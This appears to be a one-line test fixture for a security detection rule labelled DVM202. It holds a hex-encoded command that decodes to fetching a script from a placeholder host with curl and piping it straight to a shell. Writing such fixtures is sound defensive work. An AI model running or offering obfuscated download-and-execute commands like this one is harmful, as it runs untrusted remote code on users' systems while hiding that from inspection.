# expect: DVM202
printf '%b' '\x63\x75\x72\x6c\x20https://x.example.org/a\x20|\x20sh' | bash
